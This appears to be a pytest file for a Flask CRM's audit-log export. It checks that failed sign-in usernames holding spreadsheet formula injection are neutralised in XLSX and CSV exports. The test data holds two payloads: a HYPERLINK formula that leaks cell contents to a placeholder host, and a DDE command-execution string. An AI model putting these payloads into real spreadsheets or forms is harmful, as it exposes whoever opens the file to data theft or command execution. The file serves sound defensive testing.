"""The auditor's export: what strangers typed never becomes a live formula; the export is logged."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
from flask import Flask

from tests.audit.conftest import entries, last_id

HOSTILE = '=HYPERLINK("http://x/?"&A2,"Click")'
FILTER = "_flt_3_action=login_failed"


def fail_sign_in(app: Flask, username: str) -> None:
    """A stranger's failed sign-in, in its own app context: the admin client's preserved
    request context (`with test_client()`) would otherwise lend it the admin's `g.user`,
    and the login page would redirect an already signed-in user instead of refusing."""
    with app.app_context(), app.test_client() as client:
        response = client.post("/login/", data={"username": username, "password": "wrong"})
        assert "login" in response.headers.get("Location", "login")


def test_xlsx_export_of_a_hostile_failed_sign_in_holds_no_formula(
    sqlite_crm_app: Flask, sqlite_admin_client: Any
) -> None:
    fail_sign_in(sqlite_crm_app, HOSTILE)
    fail_sign_in(sqlite_crm_app, "+cmd|' /C calc'!A0")
    with sqlite_crm_app.app_context():
        mark = last_id()
    response = sqlite_admin_client.get(f"/audit/export/xlsx?{FILTER}")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hostile = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    # The detail cell now reads "username: =HYPERLINK…" (key: value lines, not JSON): it
    # starts with its key, so it is text; the others are quoted. None starts a formula.
    assert hostile and all(not c.value.startswith(("=", "+", "-", "@")) for c in hostile)
    assert any(c.value.startswith("'") for c in hostile)
    assert any(c.value == "'" + HOSTILE for c in hostile)  # the title cell, kept readable
    assert any(c.value == "'+cmd|' /C calc'!A0" for c in cells)
    with sqlite_crm_app.app_context():
        [export] = entries(mark, action="export")
    failed = sum(1 for row in sheet.iter_rows(min_row=2)
                 if row[7].value in ("Failed sign-in", "登录失败"))
    assert export["entity"] == "audit_log"
    assert export["detail"] == {"format": "xlsx", "rows": failed,
                                "filters": {"_flt_3_action": ["login_failed"]}}


def test_csv_export_defuses_formulas_in_every_cell(
    sqlite_crm_app: Flask, sqlite_admin_client: Any
) -> None:
    fail_sign_in(sqlite_crm_app, HOSTILE)
    response = sqlite_admin_client.get(f"/audit/export/csv?{FILTER}")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[1:] and all(not cell.startswith(("=", "+", "-", "@")) for row in rows
                            for cell in row)
    assert any(cell == "'" + HOSTILE for row in rows for cell in row)
